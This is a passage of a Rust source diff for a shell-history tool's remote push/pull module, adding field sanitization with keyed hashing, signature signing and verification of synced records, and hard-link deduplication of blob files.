@@ -15,15 +15,108 @@
 //! When `sync_blobs` is enabled, blob files (outputs stored as file:// refs) are
 //! also synced. For file remotes, we prefer hard links (fast, no disk duplication)
 //! and fall back to copying when hard links fail (cross-filesystem).
-
+//!
+//! # Sanitization
+//!
+//! A remote's [`SanitizePolicy`] rewrites sessions, attempts and events on
+//! their way out (home-relative paths, hashed fields, redacted commands).
+//! Attempts are staged in a temp table so command redaction can run in Rust
+//! before the rows reach the remote. Hashed fields use a keyed BLAKE3 hash
+//! with a secret per remote that never leaves this client (see
+//! [`sanitize_key`]), so they can't be reversed by hashing likely names.
+//!
+//! # Signing
+//!
+//! With a remote's [`SigningPolicy`], pushes sign this client's attempts (as
+//! stored on the remote, after sanitization) together with their outcomes
+//! and digests of their outputs and events into the remote's `signatures`
+//! table. Pulls skip attempts without a trusted signature over what the
+//! remote holds now, along with their outcomes, outputs and events; rows
+//! added to an attempt pulled before are skipped the same way. See
+//! [`crate::signing`].
+
+use std::collections::{BTreeMap, HashMap};
 use std::fs;
 use std::path::{Path, PathBuf};
 
-use chrono::{NaiveDate, TimeDelta, Utc};
-use duckdb::Connection;
+use chrono::NaiveDate;
+use duckdb::{params, Connection};
+
+use super::plan::{size, Plan};
+use crate::config::{RemoteType, SanitizePolicy};
+use crate::signing::{record_message, verify, ClientKey, KeyTrust, KnownClients};
+use crate::{perms, Config, Error, RemoteConfig, Result};
+
+/// Fields covered by a signature, in signing order, as named by
+/// [`signed_payload`].
+const SIGNED_FIELDS: [&str; 11] = [
+    "id", "timestamp", "cmd", "cwd", "session_id", "source_client", "machine_id", "hostname",
+    "outcome", "outputs", "events",
+];
+
+/// What a signature covers for each attempt in `schema`, as a subquery: the
+/// attempt's identifying columns, its outcome row, and digests of its outputs
+/// (stream and content hash of each) and of its event rows. Children are
+/// aggregated, so an edited, added or removed row changes the payload.
+/// `digest` hashes the whole payload, so pushes can tell which signatures
+/// are out of date; `attempt_id` and `started_at` are for filtering.
+fn signed_payload(schema: &str) -> String {
+    format!(
+        r#"(
+            WITH outcome_rows AS (
+                SELECT attempt_id AS id, string_agg(entry, ',' ORDER BY entry) AS payload
+                FROM (
+                    SELECT attempt_id, to_json([
+                        completed_at::VARCHAR, exit_code::VARCHAR, duration_ms::VARCHAR,
+                        signal::VARCHAR, timeout::VARCHAR
+                    ])::VARCHAR AS entry
+                    FROM {schema}.outcomes
+                )
+                GROUP BY attempt_id
+            ),
+            output_rows AS (
+                SELECT invocation_id AS id, sha256(string_agg(entry, ',' ORDER BY entry)) AS payload
+                FROM (
+                    SELECT invocation_id, to_json([
+                        id::VARCHAR, stream, content_hash, byte_length::VARCHAR
+                    ])::VARCHAR AS entry
+                    FROM {schema}.outputs
+                )
+                GROUP BY invocation_id
+            ),
+            event_rows AS (
+                SELECT invocation_id AS id, sha256(string_agg(entry, ',' ORDER BY entry)) AS payload
+                FROM (
+                    SELECT invocation_id, to_json([
+                        id::VARCHAR, client_id, hostname, event_type, severity, ref_file,
+                        ref_line::VARCHAR, ref_column::VARCHAR, message, error_code, test_name,
+                        status, format_used
+                    ])::VARCHAR AS entry
+                    FROM {schema}.events
+                )
+                GROUP BY invocation_id
+            ),
+            payloads AS (
+                SELECT r.id AS attempt_id, r.timestamp AS started_at,
+                    r.id::VARCHAR AS id, r.timestamp::VARCHAR AS timestamp, r.cmd, r.cwd, r.session_id,
+                    r.source_client, r.machine_id, r.hostname,
+                    oc.payload AS outcome, op.payload AS outputs, ev.payload AS events
+                FROM {schema}.attempts r
+                LEFT JOIN outcome_rows oc ON oc.id = r.id
+                LEFT JOIN output_rows op ON op.id = r.id
+                LEFT JOIN event_rows ev ON ev.id = r.id
+            )
+            SELECT *, sha256(to_json([{fields}])::VARCHAR) AS digest FROM payloads
+        )"#,
+        schema = schema,
+        fields = SIGNED_FIELDS.join(", "),
+    )
+}
 
-use crate::config::RemoteType;
-use crate::{Error, RemoteConfig, Result};
+/// [`SIGNED_FIELDS`] selected from a [`signed_payload`] aliased `p`.
+fn signed_columns() -> String {
+    SIGNED_FIELDS.iter().map(|f| format!("p.{}", f)).collect::<Vec<_>>().join(", ")
+}
 
 /// Statistics from blob sync operations.
 #[derive(Debug, Default)]
@@ -38,6 +131,10 @@ pub struct BlobStats {
     pub copied: usize,
     /// Number of blobs skipped (already exist).
     pub skipped: usize,
+    /// Number of blobs hard-linked to a local file with the same content.
+    pub deduped: usize,
+    /// Bytes not stored again thanks to `deduped`.
+    pub deduped_bytes: u64,
 }
 
 impl std::fmt::Display for BlobStats {
@@ -50,7 +147,11 @@ impl std::fmt::Display for BlobStats {
                 f,
                 "{} blobs ({}KB, {} linked, {} copied, {} skipped)",
                 self.count, kb, self.linked, self.copied, self.skipped
-            )
+            )?;
+            if self.deduped > 0 {
+                write!(f, ", {} deduped ({}KB saved)", self.deduped, self.deduped_bytes / 1024)?;
+            }
+            Ok(())
         }
     }
 }
@@ -63,6 +164,10 @@ pub struct PushStats {
     pub outputs: usize,
     pub events: usize,
     pub blobs: BlobStats,
+    /// Invocations signed with this client's key.
+    pub signed: usize,
+    /// Dry runs: what would be pushed.
+    pub plan: Plan,
 }
 
 impl std::fmt::Display for PushStats {
@@ -75,6 +180,9 @@ impl std::fmt::Display for PushStats {
         if self.blobs.count > 0 {
             write!(f, ", {}", self.blobs)?;
         }
+        if self.signed > 0 {
+            write!(f, ", {} signed", self.signed)?;
+        }
         Ok(())
     }
 }
@@ -87,6 +195,8 @@ pub struct PullStats {
     pub outputs: usize,
     pub events: usize,
     pub blobs: BlobStats,
+    /// Invocations dropped for lacking a trusted signature.
+    pub rejected: usize,
 }
 
 impl std::fmt::Display for PullStats {
@@ -99,6 +209,9 @@ impl std::fmt::Display for PullStats {
         if self.blobs.count > 0 {
             write!(f, ", {}", self.blobs)?;
         }
+        if self.rejected > 0 {
+            write!(f, ", {} rejected (untrusted signature)", self.rejected)?;
+        }
         Ok(())
     }
 }
@@ -125,40 +238,6 @@ pub struct PullOptions {
     pub sync_blobs: bool,
 }
 
-/// Parse a "since" string into a date.
-///
-/// Supports:
-/// - Duration: "7d", "2w", "1m" (days, weeks, months)
-/// - Date: "2024-01-15"
-pub fn parse_since(s: &str) -> Result<NaiveDate> {
-    let s = s.trim();
-
-    // Try duration first (7d, 2w, 1m)
-    if let Some(days) = parse_duration_days(s) {
-        let date = Utc::now().date_naive() - TimeDelta::days(days);
-        return Ok(date);
-    }
-
-    // Try date format (YYYY-MM-DD)
-    NaiveDate::parse_from_str(s, "%Y-%m-%d")
-        .map_err(|e| Error::Config(format!("Invalid date '{}': {}", s, e)))
-}
-
-/// Parse a duration string into days.
-fn parse_duration_days(s: &str) -> Option<i64> {
-    let s = s.trim().to_lowercase();
-
-    if let Some(num) = s.strip_suffix('d') {
-        num.parse::<i64>().ok()
-    } else if let Some(num) = s.strip_suffix('w') {
-        num.parse::<i64>().ok().map(|n| n * 7)
-    } else if let Some(num) = s.strip_suffix('m') {
-        num.parse::<i64>().ok().map(|n| n * 30)
-    } else {
-        None
-    }
-}
-
 /// Get the cached schema name for a remote (e.g., "cached_team" for remote "team").
 #[allow(dead_code)]
 pub fn cached_schema_name(remote_name: &str) -> String {
@@ -235,6 +314,23 @@ fn sync_blob_file(src: &Path, dst: &Path, stats: &mut BlobStats) -> Result<bool>
     }
 }
 
+/// Give `dst` the content of the local blob `existing` by hard-linking it
+/// (copying across filesystems).
+///
+/// Returns `Ok(false)` if `dst` already exists.
+fn dedup_blob_file(existing: &Path, dst: &Path) -> Result<bool> {
+    if dst.exists() {
+        return Ok(false);
+    }
+    if let Some(parent) = dst.parent() {
+        fs::create_dir_all(parent)?;
+    }
+    if fs::hard_link(existing, dst).is_err() {
+        fs::copy(existing, dst)?;
+    }
+    Ok(true)
+}
+
 impl super::Store {
     /// Push local data to a remote.
     ///
@@ -257,6 +353,24 @@ impl super::Store {
             }
         }
 
+        if let Some(field) = remote
+            .sanitize
+            .hash_fields
+            .iter()
+            .find(|f| !SanitizePolicy::HASHABLE_FIELDS.contains(&f.as_str()))
+        {
+            return Err(Error::Config(format!(
+                "Unknown sanitize hash field '{}' for remote '{}' (expected one of: {})",
+                field,
+                remote.name,
+                SanitizePolicy::HASHABLE_FIELDS.join(", ")
+            )));
+        }
+
+        if remote.remote_type == RemoteType::AtuinServer {
+            return self.push_atuin(remote, opts);
+        }
+
         // Use connection without auto-attach to avoid conflicts and unnecessary views
         let conn = self.connection_with_options(false)?;
 
@@ -280,6 +394,7 @@ impl super::Store {
             if opts.sync_blobs {
                 stats.blobs = count_blobs_to_push(&conn, &remote_schema, opts.since)?;
             }
+            stats.plan = push_plan(remote, &stats);
         } else {
             // Sync blobs first (before pushing output metadata)
             if opts.sync_blobs {
@@ -287,12 +402,39 @@ impl super::Store {
             }
 
             // Actually push in dependency order
-            stats.sessions = push_sessions(&conn, &remote_schema, opts.since)?;
+            // Each table is pushed whole and pushes skip rows the remote
+            // already has, so stopping between tables is safe to resume.
+            if !remote.sanitize.hash_fields.is_empty() {
+                stage_sanitize_hashes(&conn, &remote.sanitize, &sanitize_key(&self.config, &remote.name)?)?;
+            }
+            let progress = self.progress_phase(&format!("push {}", remote.name), Some(5));
+            stats.sessions = push_sessions(&conn, &remote_schema, opts.since, &remote.sanitize)?;
+            progress.advance(1);
+            self.checkpoint()?;
             // V5: push attempts first, then outcomes (report attempts count as "invocations")
-            stats.invocations = push_table(&conn, "attempts", &remote_schema, opts.since)?;
+            stats.invocations = if remote.sanitize.is_noop() {
+                push_table(&conn, "attempts", &remote_schema, opts.since)?
+            } else {
+                push_attempts_sanitized(&conn, &remote_schema, opts.since, &remote.sanitize)?
+            };
+            progress.advance(1);
+            self.checkpoint()?;
             let _ = push_table(&conn, "outcomes", &remote_schema, opts.since)?;
+            progress.advance(1);
+            self.checkpoint()?;
             stats.outputs = push_outputs(&conn, &remote_schema, opts.since, opts.sync_blobs)?;
-            stats.events = push_table(&conn, "events", &remote_schema, opts.since)?;
+            progress.advance(1);
+            self.checkpoint()?;
+            stats.events = if remote.sanitize.is_noop() {
+                push_table(&conn, "events", &remote_schema, opts.since)?
+            } else {
+                push_events_sanitized(&conn, &remote_schema, opts.since, &remote.sanitize)?
+            };
+            // Signatures cover outcomes, outputs and events too
+            if remote.signing.sign {
+                stats.signed = self.sign_pushed_attempts(&conn, &remote_schema)?;
+            }
+            progress.advance(1);
         }
 
         Ok(stats)
@@ -325,7 +467,11 @@ impl super::Store {
 
         let local_data_dir = self.config.data_dir();
 
+        let progress = self.progress_phase(&format!("push {} blobs", remote.name), Some(blobs.len() as u64));
         for blob in &blobs {
+            self.checkpoint()?;
+            progress.advance(1);
+
             // Build source and destination paths
             // storage_path is relative to data_dir (e.g., "recent/blobs/content/ab/hash.bin")
             let src = local_data_dir.join(&blob.storage_path);
@@ -359,6 +505,7 @@ impl super::Store {
                 [],
             )?;
         }
+        drop(progress);
 
         Ok(stats)
     }
@@ -370,6 +517,15 @@ impl super::Store {
     /// After pulling, rebuilds the `caches` union views.
     /// When `sync_blobs` is enabled, also syncs blob files for file remotes.
     pub fn pull(&self, remote: &RemoteConfig, opts: PullOptions) -> Result<PullStats> {
+        if remote.remote_type == RemoteType::AtuinServer {
+            return Err(Error::Config(format!(
+                "Remote '{}' is an Atuin server, which can only be pushed to",
+                remote.name
+            )));
+        }
+
+        // Synced blob files are data files
+        let _sync = self.sync_guard();
         // Use connection without auto-attach to avoid conflicts
         let conn = self.connection_with_options(false)?;
 
@@ -384,31 +540,223 @@ impl super::Store {
 
         // Pull in dependency order (sessions first, then attempts, outcomes, outputs, events)
         // V5: pull attempts first, then outcomes (report attempts count as "invocations")
-        let attempts_pulled = pull_table(&conn, "attempts", &remote_schema, &cached_schema, opts.since, opts.client_id.as_deref())?;
-        let _ = pull_table(&conn, "outcomes", &remote_schema, &cached_schema, opts.since, opts.client_id.as_deref())?;
-        let mut stats = PullStats {
-            sessions: pull_sessions(&conn, &remote_schema, &cached_schema, opts.since, opts.client_id.as_deref())?,
-            invocations: attempts_pulled,
-            outputs: pull_outputs(&conn, &remote_schema, &cached_schema, opts.since, opts.client_id.as_deref(), opts.sync_blobs)?,
-            events: pull_table(&conn, "events", &remote_schema, &cached_schema, opts.since, opts.client_id.as_deref())?,
-            blobs: BlobStats::default(),
+        // On cancellation, stop between tables but still rebuild the views
+        // and invalidate the index below for whatever was pulled.
+        let client_id = opts.client_id.as_deref();
+        let cancel = self.cancel_token();
+        let mut stats = PullStats::default();
+        let untrusted = if remote.signing.verify {
+            self.untrusted_attempts(&conn, remote, &cached_schema, opts.since, client_id)?
+        } else {
+            Vec::new()
         };
+        stats.rejected = skip_untrusted(&conn, &cached_schema, &untrusted)?;
+        let progress = self.progress_phase(&format!("pull {}", remote.name), Some(5));
+        'tables: {
+            stats.invocations = pull_table(&conn, "attempts", &remote_schema, &cached_schema, opts.since, client_id)?;
+            progress.advance(1);
+            if cancel.is_cancelled() {
+                break 'tables;
+            }
+            let _ = pull_table(&conn, "outcomes", &remote_schema, &cached_schema, opts.since, client_id)?;
+            progress.advance(1);
+            if cancel.is_cancelled() {
+                break 'tables;
+            }
+            stats.sessions = pull_sessions(&conn, &remote_schema, &cached_schema, opts.since, client_id)?;
+            progress.advance(1);
+            if cancel.is_cancelled() {
+                break 'tables;
+            }
+            stats.outputs = pull_outputs(&conn, &remote_schema, &cached_schema, opts.since, client_id, opts.sync_blobs)?;
+            progress.advance(1);
+            if cancel.is_cancelled() {
+                break 'tables;
+            }
+            stats.events = pull_table(&conn, "events", &remote_schema, &cached_schema, opts.since, client_id)?;
+            progress.advance(1);
+        }
+        drop(progress);
 
         // Sync blob files after pulling output metadata
-        if opts.sync_blobs {
+        if opts.sync_blobs && !cancel.is_cancelled() {
             stats.blobs = self.pull_blobs(&conn, remote, &remote_schema, &cached_schema)?;
         }
 
         // Rebuild caches union views to include this cached schema
         self.rebuild_caches_schema(&conn)?;
 
+        // Pulled rows may be newer than the recent index watermark, and
+        // aren't in the running stats or short-id lookup
+        if stats.invocations > 0 {
+            conn.execute("DELETE FROM main.recent_index_state", [])?;
+            conn.execute("DELETE FROM main.running_stats_state", [])?;
+            conn.execute("DELETE FROM main.short_ids_state", [])?;
+        }
+
+        if cancel.is_cancelled() {
+            return Err(Error::Cancelled);
+        }
         Ok(stats)
     }
 
+    /// Sign this client's attempts on the remote whose current payload (see
+    /// [`signed_payload`]) its key hasn't signed yet, and pin its own key for
+    /// the client ID they're stored under. Attempts are signed again when
+    /// a later push adds their outcome, outputs or events.
+    fn sign_pushed_attempts(&self, conn: &Connection, remote_schema: &str) -> Result<usize> {
+        let key = ClientKey::load_or_create(&self.config)?;
+        let public_key = key.public_key();
+
+        let mut stmt = conn.prepare(&format!(
+            r#"
+            SELECT {columns}, p.digest
+            FROM {payload} p
+            WHERE p.attempt_id IN (SELECT id FROM local.attempts)
+            AND NOT EXISTS (
+                SELECT 1 FROM {remote}.signatures s
+                WHERE s.record_id = p.attempt_id AND s.public_key = ? AND s.digest = p.digest
+            )
+            "#,
+            columns = signed_columns(),
+            payload = signed_payload(remote_schema),
+            remote = remote_schema,
+        ))?;
+        let rows: Vec<Vec<Option<String>>> = stmt
+            .query_map(params![public_key], |row| (0..=SIGNED_FIELDS.len()).map(|i| row.get(i)).collect())?
+            .collect::<std::result::Result<_, _>>()?;
+        if rows.is_empty() {
+            return Ok(0);
+        }
+
+        let mut known = KnownClients::load(&self.config)?;
+        let insert = format!(
+            "INSERT INTO {}.signatures (record_id, client_id, public_key, signature, digest) VALUES (?::UUID, ?, ?, ?, ?)",
+            remote_schema
+        );
+        for row in &rows {
+            let (fields, digest) = row.split_at(SIGNED_FIELDS.len());
+            let message = record_message(&fields.iter().map(|f| f.as_deref()).collect::<Vec<_>>());
+            let client = fields[5].as_deref().unwrap_or_default();
+            conn.execute(&insert, params![fields[0], client, public_key, key.sign(&message), digest[0]])?;
+            known.pin(client, &public_key);
+        }
+        known.save()?;
+        Ok(rows.len())
+    }
+
+    /// IDs of the attempts a pull would bring in, or bring new outcomes,
+    /// outputs or events for, that aren't signed by their client's trusted
+    /// key over their current payload. Valid signatures from clients not
+    /// seen before pin those clients' keys.
+    fn untrusted_attempts(
+        &self,
+        conn: &Connection,
+        remote: &RemoteConfig,
+        cached_schema: &str,
+        since: Option<NaiveDate>,
+        client_id: Option<&str>,
+    ) -> Result<Vec<String>> {
+        let remote_schema = remote.quoted_schema_name();
+        let has_signatures: bool = conn.query_row(
+            "SELECT COUNT(*) > 0 FROM duckdb_tables() WHERE database_name = ? AND table_name = 'signatures'",
+            params![remote.schema_name()],
+            |row| row.get(0),
+        )?;
+        let signatures = if has_signatures {
+            format!(
+                "LEFT JOIN {}.signatures s ON s.record_id = p.attempt_id AND s.client_id IS NOT DISTINCT FROM p.source_client",
+                remote_schema
+            )
+        } else {
+            // Nothing on this remote has been signed
+            "LEFT JOIN (SELECT NULL::UUID AS record_id, NULL AS public_key, NULL AS signature) s ON false".to_string()
+        };
+
+        let mut stmt = conn.prepare(&format!(
+            r#"
+            SELECT {columns}, s.public_key, s.signature
+            FROM {payload} p
+            {signatures}
+            WHERE (
+                NOT EXISTS (SELECT 1 FROM {cached}.attempts l WHERE l.id = p.attempt_id)
+                OR EXISTS (
+                    SELECT 1 FROM {remote}.outcomes c WHERE c.attempt_id = p.attempt_id
+                    AND NOT EXISTS (SELECT 1 FROM {cached}.outcomes l WHERE l.attempt_id = c.attempt_id)
+                )
+                OR EXISTS (
+                    SELECT 1 FROM {remote}.outputs c WHERE c.invocation_id = p.attempt_id
+                    AND NOT EXISTS (SELECT 1 FROM {cached}.outputs l WHERE l.id = c.id)
+                )
+                OR EXISTS (
+                    SELECT 1 FROM {remote}.events c WHERE c.invocation_id = p.attempt_id
+                    AND NOT EXISTS (SELECT 1 FROM {cached}.events l WHERE l.id = c.id)
+                )
+            )
+            {since}
+            {client}
+            ORDER BY p.started_at
+            "#,
+            columns = signed_columns(),
+            payload = signed_payload(&remote_schema),
+            remote = remote_schema,
+            signatures = signatures,
+            cached = cached_schema,
+            since = since_clause(since, "p.started_at"),
+            client = client_id
+                .map(|c| format!("AND p.source_client = '{}'", c.replace('\'', "''")))
+                .unwrap_or_default(),
+        ))?;
+        let width = SIGNED_FIELDS.len();
+        let rows: Vec<Vec<Option<String>>> = stmt
+            .query_map([], |row| (0..width + 2).map(|i| row.get(i)).collect())?
+            .collect::<std::result::Result<_, _>>()?;
+
+        let mut known = KnownClients::load(&self.config)?;
+        // One row per signature; an attempt is trusted if any of them is
+        let mut trusted: BTreeMap<String, bool> = BTreeMap::new();
+        for fields in &rows {
+            let id = fields[0].clone().unwrap_or_default();
+            let accepted = trusted.entry(id).or_insert(false);
+            let (Some(public_key), Some(signature)) = (&fields[width], &fields[width + 1]) else {
+                continue;
+            };
+            if *accepted {
+                continue;
+            }
+            let message = record_message(&fields[..width].iter().map(|f| f.as_deref()).collect::<Vec<_>>());
+            if !verify(public_key, &message, signature) {
+                continue;
+            }
+            let client = fields[5].as_deref().unwrap_or_default();
+            match known.check(client, public_key) {
+                KeyTrust::Trusted => *accepted = true,
+                KeyTrust::Unknown => {
+                    known.pin(client, public_key);
+                    *accepted = true;
+                }
+                KeyTrust::Mismatch => {}
+            }
+        }
+        known.save()?;
+
+        Ok(trusted
+            .into_iter()
+            .filter(|(_, accepted)| !accepted)
+            .map(|(id, _)| id)
+            .collect())
+    }
+
     /// Pull blob files from a file remote.
     ///
-    /// Syncs blob files using hard links (preferred) or copies (fallback).
-    /// Also registers blobs in the local blob_registry.
+    /// Blobs live under a content-addressed layout (`blobs/content/<hash
+    /// prefix>/`), but file names also carry the producing command, so the
+    /// same content can be referenced under a different name on each machine.
+    /// Every name a pulled output references is created locally, and all names
+    /// for one content hash share a single file: a name is hard-linked to a
+    /// local blob with the same hash when there is one, and only otherwise
+    /// linked or copied from the remote. New blobs are registered in the local
+    /// blob_registry.
     fn pull_blobs(
         &self,
         conn: &Connection,
@@ -424,32 +772,61 @@ impl super::Store {
             None => return Ok(stats), // Not a file remote, skip blob sync
         };
 
-        // Find blobs that were pulled (in cached outputs but not in local blob_registry)
-        let blobs = get_blobs_to_pull(conn, remote_schema, cached_schema)?;
+        let local_data_dir = self.config.data_dir();
+
+        // Names referenced by pulled outputs that don't exist locally yet
+        let blobs: Vec<PulledBlob> = get_blobs_to_pull(conn, remote_schema, cached_schema)?
+            .into_iter()
+            .filter(|blob| !local_data_dir.join(&blob.ref_path).exists())
+            .collect();
         if blobs.is_empty() {
             return Ok(stats);
         }
 
-        let local_data_dir = self.config.data_dir();
+        // One local file per content hash, shared by every name
+        let mut local_copies: HashMap<String, PathBuf> = HashMap::new();
 
+        let progress = self.progress_phase(&format!("pull {} blobs", remote.name), Some(blobs.len() as u64));
         for blob in &blobs {
-            // Build source and destination paths
-            // storage_path is relative to data_dir (e.g., "recent/blobs/content/ab/hash.bin")
-            let src = remote_data_dir.join(&blob.storage_path);
-            let dst = local_data_dir.join(&blob.storage_path);
+            // Stop between blobs; `pull` finishes up and reports the cancellation
+            if self.cancel_token().is_cancelled() {
+                break;
+            }
+            progress.advance(1);
+
+            // Paths are relative to data_dir (e.g., "recent/blobs/content/ab/hash--make.bin")
+            let dst = local_data_dir.join(&blob.ref_path);
+            let local = local_copies
+                .get(&blob.content_hash)
+                .cloned()
+                .or_else(|| blob.local_path.as_ref().map(|p| local_data_dir.join(p)))
+                .filter(|p| p.exists());
+
+            if let Some(local) = local {
+                if dedup_blob_file(&local, &dst)? {
+                    stats.deduped += 1;
+                    stats.deduped_bytes += blob.byte_length as u64;
+                    stats.count += 1;
+                } else {
+                    stats.skipped += 1;
+                }
+                continue;
+            }
 
+            let src = remote_data_dir.join(&blob.remote_path);
             if !src.exists() {
                 // Source blob missing on remote, skip
                 continue;
             }
 
             // Sync the blob file
-            let synced = sync_blob_file(&src, &dst, &mut stats)?;
+            sync_blob_file(&src, &dst, &mut stats)?;
+            local_copies.insert(blob.content_hash.clone(), dst);
 
-            // Register in local blob_registry if we synced a new blob
-            if synced {
+            // Register in local blob_registry if this content is new here
+            if blob.local_path.is_none() {
                 let escaped_hash = blob.content_hash.replace('\'', "''");
-                let escaped_path = blob.storage_path.replace('\'', "''");
+                let escaped_path = blob.ref_path.replace('\'', "''");
                 conn.execute(
                     &format!(
                         r#"
@@ -467,6 +844,7 @@ impl super::Store {
                 )?;
             }
         }
+        drop(progress);
 
         Ok(stats)
     }
@@ -597,6 +975,13 @@ fn ensure_remote_schema(conn: &Connection, schema: &str) -> Result<()> {
             ref_column INTEGER, message VARCHAR, error_code VARCHAR, test_name VARCHAR,
             status VARCHAR, format_used VARCHAR, date DATE
         );
+        CREATE TABLE IF NOT EXISTS {schema}.signatures (
+            record_id UUID, client_id VARCHAR, public_key VARCHAR, signature VARCHAR,
+            signed_at TIMESTAMP DEFAULT CURRENT_TIMESTAMP, digest VARCHAR
+        );
+        -- Signatures made before they covered children have no digest and
+        -- are made again on the next push
+        ALTER TABLE {schema}.signatures ADD COLUMN IF NOT EXISTS digest VARCHAR;
         CREATE TABLE IF NOT EXISTS {schema}.blob_registry (
             content_hash VARCHAR PRIMARY KEY,
             byte_length BIGINT NOT NULL,
@@ -612,6 +997,31 @@ fn ensure_remote_schema(conn: &Connection, schema: &str) -> Result<()> {
     Ok(())
 }
 
+/// Record attempts that failed signature checks in the `pull_untrusted`
+/// temp table, so pulls skip them along with their outcomes, outputs and
+/// events (including new ones for attempts pulled before). Returns how many
+/// of them are new attempts.
+fn skip_untrusted(conn: &Connection, cached_schema: &str, ids: &[String]) -> Result<usize> {
+    conn.execute("CREATE OR REPLACE TEMP TABLE pull_untrusted (id UUID)", [])?;
+    for id in ids {
+        conn.execute("INSERT INTO pull_untrusted VALUES (?::UUID)", params![id])?;
+    }
+    let rejected: i64 = conn.query_row(
+        &format!(
+            "SELECT COUNT(*) FROM pull_untrusted u WHERE NOT EXISTS (SELECT 1 FROM {}.attempts l WHERE l.id = u.id)",
+            cached_schema
+        ),
+        [],
+        |row| row.get(0),
+    )?;
+    Ok(rejected as usize)
+}
+
+/// Build the WHERE clause skipping rows of attempts in `pull_untrusted`.
+fn untrusted_clause(id_col: &str) -> String {
+    format!("AND {} NOT IN (SELECT id FROM pull_untrusted)", id_col)
+}
+
 /// Ensure the cached schema exists with required tables.
 /// Tables include a `_source` column to track which remote the data came from.
 /// V5 schema: uses attempts/outcomes tables instead of invocations.
@@ -800,19 +1210,306 @@ fn count_table_to_push(
     Ok(count as usize)
 }
 
+/// Home directory to relativize against, if the policy asks for it.
+pub(super) fn sanitize_home(policy: &SanitizePolicy) -> Option<String> {
+    if !policy.relative_home {
+        return None;
+    }
+    std::env::var("HOME")
+        .ok()
+        .map(|h| h.trim_end_matches('/').to_string())
+        .filter(|h| !h.is_empty())
+}
+
+/// This client's secret for hashing fields pushed to `remote`, generated on
+/// first use. It's kept with the client's keys and never pushed.
+pub(super) fn sanitize_key(config: &Config, remote: &str) -> Result<[u8; 32]> {
+    let path = config.keys_dir().join(format!("sanitize-{}.key", remote));
+    match fs::read(&path) {
+        Ok(bytes) => bytes
+            .try_into()
+            .map_err(|_| Error::Storage(format!("Invalid sanitize key at {}", path.display()))),
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
+            let key: [u8; 32] = rand::random();
+            let dir = config.keys_dir();
+            fs::create_dir_all(&dir)?;
+            perms::harden_dir(&dir);
+            fs::write(&path, key)?;
+            perms::harden_file(&path);
+            Ok(key)
+        }
+        Err(e) => Err(e.into()),
+    }
+}
+
+/// The hash a field with `value` is pushed as, under `key`.
+pub(super) fn sanitize_hash(key: &[u8; 32], value: &str) -> String {
+    blake3::keyed_hash(key, value.as_bytes()).to_hex().to_string()
+}
+
+/// Columns holding hashable fields, with the table they're read from, as
+/// [`sanitize_replace`] is called for sessions, attempts and events.
+const HASHED_COLUMNS: [(&str, &str, &str); 7] = [
+    ("cwd", "l.cwd", "local.attempts l"),
+    ("hostname", "l.hostname", "local.attempts l"),
+    ("client", "l.source_client", "local.attempts l"),
+    ("cwd", "s.cwd", "local.sessions s"),
+    ("client", "s.client_id", "local.sessions s"),
+    ("hostname", "l.hostname", "local.events l"),
+    ("client", "l.client_id", "local.events l"),
+];
+
+/// Fill the temp table `sanitize_hashes` with the keyed hash of every value
+/// `policy` hashes, for the lookups [`sanitize_replace`] emits. DuckDB has
+/// no keyed hash, so they're computed here.
+pub(super) fn stage_sanitize_hashes(conn: &Connection, policy: &SanitizePolicy, key: &[u8; 32]) -> Result<()> {
+    conn.execute_batch(
+        "CREATE OR REPLACE TEMP TABLE sanitize_hashes (value VARCHAR PRIMARY KEY, hashed VARCHAR NOT NULL)",
+    )?;
+    let home = sanitize_home(policy);
+    let selects: Vec<String> = HASHED_COLUMNS
+        .iter()
+        .filter(|(field, _, _)| policy.hashes(field))
+        .map(|(field, column, from)| {
+            format!("SELECT {} AS value FROM {}", relative_home_expr(field, column, home.as_deref()), from)
+        })
+        .collect();
+    if selects.is_empty() {
+        return Ok(());
+    }
+
+    let mut stmt = conn.prepare(&format!(
+        "SELECT DISTINCT value FROM ({}) WHERE value IS NOT NULL",
+        selects.join(" UNION ALL ")
+    ))?;
+    let values: Vec<String> = stmt.query_map([], |row| row.get(0))?.collect::<std::result::Result<_, _>>()?;
+    let mut insert = conn.prepare("INSERT INTO sanitize_hashes VALUES (?, ?)")?;
+    for value in &values {
+        insert.execute(params![value, sanitize_hash(key, value)])?;
+    }
+    Ok(())
+}
+
+/// `column` with paths under `home` written as `~/...`, for the path fields
+/// (`cwd`, `ref_file`); other fields are returned as is.
+fn relative_home_expr(field: &str, column: &str, home: Option<&str>) -> String {
+    match home {
+        Some(home) if field == "cwd" || field == "ref_file" => {
+            let home = home.replace('\'', "''");
+            format!(
+                "CASE WHEN {c} = '{h}' THEN '~' WHEN starts_with({c}, '{h}/') THEN '~' || {c}[{n}:] ELSE {c} END",
+                c = column,
+                h = home,
+                n = home.chars().count() + 1,
+            )
+        }
+        _ => column.to_string(),
+    }
+}
+
+/// Build a `REPLACE (...)` clause applying `policy` to the given columns.
+///
+/// `columns` maps policy field names (`cwd`, `ref_file`, `hostname`,
+/// `client`) to the qualified column holding them; `metadata` names the
+/// metadata MAP column, if any, whose `env` entry is dropped unless the
+/// policy pushes it. Hashed fields are looked up in `sanitize_hashes`
+/// (see [`stage_sanitize_hashes`]). Returns an empty string when nothing
+/// needs rewriting.
+pub(super) fn sanitize_replace(
+    policy: &SanitizePolicy,
+    home: Option<&str>,
+    columns: &[(&str, &str)],
+    metadata: Option<&str>,
+) -> String {
+    let mut exprs = Vec::new();
+    for (field, column) in columns {
+        let name = column.rsplit('.').next().unwrap_or(column);
+        let mut expr = relative_home_expr(field, column, home);
+        if policy.hashes(field) {
+            expr = format!("(SELECT h.hashed FROM sanitize_hashes h WHERE h.value = {})", expr);
+        }
+        if expr != *column {
+            exprs.push(format!("{} AS {}", expr, name));
+        }
+    }
+
+    let home = home.map(|h| h.replace('\'', "''"));
+    if let Some(column) = metadata {
+        let name = column.rsplit('.').next().unwrap_or(column);
+        let mut expr = column.to_string();
+        if !policy.push_env {
+            expr = format!("map_from_entries(list_filter(map_entries({}), e -> e.key <> 'env'))", expr);
+        }
+        // VCS metadata records the repo root, which sits under $HOME too
+        if let Some(home) = &home {
+            expr = format!(
+                "map_from_entries(list_transform(map_entries({c}), e -> {{'key': e.key, 'value': \
+                 replace(replace(e.value::VARCHAR, '\"{h}/', '\"~/'), '\"{h}\"', '\"~\"')::JSON}}))",
+                c = expr,
+                h = home,
+            );
+        }
+        if expr != column {
+            exprs.push(format!("{} AS {}", expr, name));
+        }
+    }
+
+    if exprs.is_empty() {
+        String::new()
